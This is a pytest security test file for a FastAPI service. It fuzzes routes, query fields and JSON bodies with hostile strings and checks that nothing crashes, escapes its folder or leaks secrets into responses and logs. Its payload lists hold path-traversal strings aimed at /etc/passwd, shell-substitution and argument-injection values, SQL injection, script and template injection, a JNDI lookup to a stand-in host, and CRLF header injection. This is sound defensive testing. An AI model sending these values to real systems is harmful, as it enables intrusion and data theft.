"""Hostile input in every field: no answer is a server error, nothing leaves its place, nothing leaks."""

from __future__ import annotations

import json
import logging
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from realm.errors import RealmError
from tavern.access import RULES
from tavern.bounds import MAX_INT
from tavern.logs import PlainFormatter, redact
from tavern.problems import scrub, to_json

from .conftest import EFFECT, World, problem_of

HOSTILE = [
    "../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "//etc/passwd",
    "....//....//etc/passwd",
    "..;/..;/etc/passwd",
    "file:///etc/passwd",
    "a\u0000b",
    "%00",
    "\u202egnp.exe",
    "\ud83d\ude00" * 50,
    "\u2028\u2029",
    "A" * 100_000,
    "-rf",
    "--upload-pack=touch /tmp/x",
    "$(id)",
    "`id`",
    "; drop table jobs; --",
    "' OR 1=1 --",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil.test/a}",
    "%n%s%n",
    ".",
    "..",
    "~",
    "con",
    "a\r\nSet-Cookie: x=y",
    "0x7f.1",
    "\ufeff",
    "é" * 200,
]
NUMBERS = [
    "-1",
    str(MAX_INT + 1),
    "81233959313332125696",
    "1e3",
    "NaN",
    "0x10",
    "",
    "1" * 400,
    "٣",
    "1_000",
    "+1",
    " 1",
]
JSON_BODIES = [
    b"",
    b"null",
    b"[]",
    b'"x"',
    b"{",
    b"\xff\xfe",
    b'{"verb": "pause", "verb": "stop"}',
    b'{"verb": NaN}',
    b'{"verb": Infinity}',
    b'{"verb": 1' + b"0" * 5000 + b"}",
    b'{"verb": 1e999}',
    b'{"verb": "\\ud800"}',
    b'{"verb": "\\u0000"}',
    b"[" * 100_000,
    b'{"a":' * 5000 + b"1" + b"}" * 5000,
    b'{"verb": {"__proto__": {"x": 1}}}',
    b'{"verb": "pause", "unknown": 1}',
    b'{"verb": "pause", "target": "../../x"}',
]


def query_fields(client: TestClient) -> list[tuple[str, str]]:
    document = client.get("/openapi.json").json()
    return [
        (path, parameter["name"])
        for path, methods in document["paths"].items()
        if path != "/api/v1/events"
        for parameter in methods.get("get", {}).get("parameters", [])
        if parameter["in"] == "query"
    ]


@pytest.mark.parametrize("payload", HOSTILE, ids=[ascii(text)[:30] for text in HOSTILE])
def test_hostile_texts_in_every_id_and_query(owner: TestClient, world: World, payload: str) -> None:
    from urllib.parse import quote

    encoded = quote(payload.encode("utf-8", "surrogatepass"), safe="")[:3000]
    for rule in RULES:
        if "{" not in rule.path:
            continue
        head, tail = rule.path.split("{")[0], rule.path.partition("}")[2]
        for text in {encoded.replace(".", "%2E"), encoded.replace("%2F", "/"), encoded}:
            if set(text) <= {"."}:  # the client would resolve it before sending; test_server sends it raw
                continue
            response = owner.request(rule.method, f"{head}{text}{tail}", headers=EFFECT)
            assert response.status_code in (404, 405, 414, 422), f"{rule.path}: {response.status_code}"
            assert "root:" not in response.text
    for path, name in query_fields(owner):
        response = owner.get(f"{world.path(path)}?{name}={encoded}")
        assert response.status_code < 500, f"{path} {name}: {response.text}"


PAGE_QUERIES = {
    "/quests": ("priority", "before"),
    "/vault": ("before",),
    "/chronicle": ("show", "before"),
    "/charts/loss": ("hero", "run", "window"),
}


def test_hostile_queries_to_pages(owner: TestClient, world: World) -> None:
    for path, names in PAGE_QUERIES.items():
        for name in names:
            for payload in (*HOSTILE, *NUMBERS):
                response = owner.get(path, params={name: payload.encode("utf-8", "replace").decode()[:1000]})
                assert response.status_code < 500, f"{path} {name}: {response.text[:200]}"
                assert "<script>alert" not in response.text


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_out_of_bounds(owner: TestClient, world: World, number: str) -> None:
    bounded = [field for field in query_fields(owner) if field[1] in ("limit", "cursor", "max_points", "after")]
    assert len(bounded) > 8
    for path, name in bounded:
        response = owner.get(world.path(path), params={name: number})
        if number not in ("+1", " 1", "1_000"):  # forms of a number that is in bounds
            assert response.status_code == 422, f"{path}?{name}={number}: {response.text[:200]}"
            problem_of(response)
        assert response.status_code < 500


@pytest.mark.parametrize("body", JSON_BODIES, ids=range(len(JSON_BODIES)))
def test_hostile_bodies_everywhere(owner: TestClient, world: World, body: bytes) -> None:
    for rule in RULES:
        if rule.method in ("POST", "PATCH", "DELETE") and rule.scope != "open":
            headers = EFFECT | {"Content-Type": "application/json"}
            response = owner.request(rule.method, world.path(rule.path), headers=headers, content=body)
            assert response.status_code < 500, f"{rule.path}: {response.text}"
            if response.status_code >= 400:
                problem_of(response)
    commands = owner.post("/api/v1/commands", headers=EFFECT | {"Content-Type": "application/json"}, content=body)
    assert commands.status_code in (400, 422)


@pytest.mark.parametrize("payload", HOSTILE, ids=[ascii(text)[:30] for text in HOSTILE])
def test_a_file_lands_in_the_inbox_under_a_plain_name_or_nowhere(
    owner: TestClient, realm: Any, payload: str, tmp_path: Path
) -> None:
    before = {path for path in tmp_path.rglob("*") if path.is_file()}
    headers = EFFECT | {"Content-Type": "application/octet-stream"}
    text = payload.encode("utf-8", "replace").decode()
    response = owner.post("/api/v1/jobs", params={"name": text[:2000]}, headers=headers, content=b'{"text":"x"}\n')
    new = {path for path in tmp_path.rglob("*") if path.is_file()} - before
    new = {path for path in new if "vault.db" not in path.name and "metrics.db" not in path.name}
    if response.status_code == 201:
        assert {path.parent for path in new} == {realm.paths.inbox, realm.paths.control / "uploads"}
        for path in new:
            assert not path.name.startswith((".", "-", "~"))
            assert path.stat().st_mode & 0o077 == 0
    else:
        assert response.status_code in (414, 422)
        problem_of(response)
        assert new == set()


def test_bodies_and_headers_have_a_limit(owner: TestClient) -> None:
    json_type = EFFECT | {"Content-Type": "application/json"}
    big = owner.post("/api/v1/commands", headers=json_type, content=b'{"verb":"' + b"x" * (1 << 20) + b'"}')
    assert problem_of(big)["status"] == 413
    raw = EFFECT | {"Content-Type": "application/octet-stream"}
    assert owner.post("/api/v1/jobs?name=a.txt", headers=raw, content=b"x" * ((2 << 20) + 1)).status_code == 413
    assert owner.get("/healthz", headers={"X-Long": "x" * 20_000}).status_code == 431
    assert owner.get("/api/v1/jobs?state=" + "x" * 5000).status_code == 414


def test_a_body_without_length_is_cut_at_the_limit_and_leaves_nothing(owner: TestClient, realm: Any) -> None:
    def endless() -> Any:
        for _ in range(40):
            yield b"x" * (1 << 16)

    headers = EFFECT | {"Content-Type": "application/octet-stream"}
    response = owner.post("/api/v1/jobs?name=a.txt", headers=headers, content=endless())
    assert problem_of(response)["code"] == "body_too_large"
    assert list(realm.paths.staging.iterdir()) == []
    assert list(realm.paths.inbox.iterdir()) == []


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({"Content-Length": "-1"}, 400),
        ({"Content-Length": "1e3"}, 400),
        ({"Content-Length": "9" * 30}, 400),
        ({"Content-Type": "application/xml"}, 415),
        ({"Content-Type": "application/json; charset=utf-16"}, 400),
    ],
)
def test_odd_headers(owner: TestClient, headers: dict[str, str], status: int) -> None:
    content = '{"verb":"save"}'.encode("utf-16" if "utf-16" in headers.get("Content-Type", "") else "utf-8")
    assert owner.post("/api/v1/commands", headers=EFFECT | headers, content=content).status_code == status


def test_json_stays_inert_wherever_it_is_put() -> None:
    text = to_json({"a": "</script><!-- &\u2028\u2029"}).decode()
    assert not set(text) & set("<>&\u2028\u2029")
    assert json.loads(text) == {"a": "</script><!-- &\u2028\u2029"}
    with pytest.raises(ValueError, match="JSON"):
        to_json({"a": float("nan")})


def test_markup_in_the_ledger_is_sent_as_text(owner: TestClient, world: World) -> None:
    response = owner.get("/api/v1/evaluations")
    assert "<script>" not in response.text
    assert response.json()["items"][0]["details"]["wrong"][0]["prompt"] == "<script>alert(1)</script>"


def test_an_unforeseen_error_says_an_id_and_nothing_else(
    realm: Any, owners_app: Any, caplog: pytest.LogCaptureFixture
) -> None:
    @owners_app.inner.get("/api/v1/jobs/{job_id}/broken")
    def broken(job_id: str) -> None:
        raise ZeroDivisionError("password hunter2 in /home/somebody/secret.txt")

    from tavern.access import Rule

    owners_app.gate.table = type(owners_app.gate.table)([*RULES, Rule("GET", "/api/v1/jobs/{job_id}/broken", "read")])
    with TestClient(
        owners_app, base_url="http://127.0.0.1:8888", client=("127.0.0.1", 5), raise_server_exceptions=False
    ) as client:
        response = client.get("/api/v1/jobs/job_x/broken")
    body = problem_of(response)
    assert response.status_code == 500
    assert "hunter2" not in response.text
    assert "/home" not in response.text
    assert body["error_id"] in caplog.text
    assert "ZeroDivisionError" in caplog.text


def test_paths_are_cut_out_of_messages() -> None:
    assert scrub("/home/x/realm-home/runs/run_1/job.json does not exist.") == "job.json does not exist."
    assert scrub({"a": ["see /etc/passwd now"]}) == {"a": ["see passwd now"]}
    assert scrub("GET /api/v1/jobs is 3/4 done, 12 s/step") == "GET /api/v1/jobs is 3/4 done, 12 s/step"


def test_our_own_errors_pass_on_named_data_only(realm: Any, owners_app: Any) -> None:
    from tavern.problems import from_error

    error = RealmError("No room in /srv/x/y.", hint="See /srv/x.", needed=3, secret="s3cret", file="/srv/x/y")
    body = json.loads(bytes(from_error(error).body))
    assert body["needed"] == 3
    assert "s3cret" not in json.dumps(body)
    assert "/srv" not in json.dumps(body)


def test_the_model_folder_is_not_told(owner: TestClient, world: World) -> None:
    assert "/secret" not in owner.get("/api/v1/heroes/dio").text


def test_secrets_never_reach_the_log(
    stranger: TestClient, realm: Any, bearer: Any, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    headers = bearer("read")
    secret = headers["Authorization"].removeprefix("Bearer ")
    stranger.get("/api/v1/status", headers=headers)
    stranger.get(f"/api/v1/status?token={secret}")
    stranger.get(f"/api/v1/jobs/{secret}", headers=headers)
    stranger.post("/api/v1/tokens", headers=headers, json={"name": "x", "scopes": ["admin"]})
    tavern_lines = [record.getMessage() for record in caplog.records if record.name.startswith("tavern")]
    assert len(tavern_lines) >= 2
    assert secret not in "\n".join(tavern_lines)
    formatted = PlainFormatter().format(logging.makeLogRecord({"msg": f"Authorization: Bearer {secret}", "name": "x"}))
    assert secret not in formatted
    assert (
        redact("http://127.0.0.1:8888/login#abcdefghijklmnopqrstuvwxyz012345") == "http://127.0.0.1:8888/login#[secret]"
    )
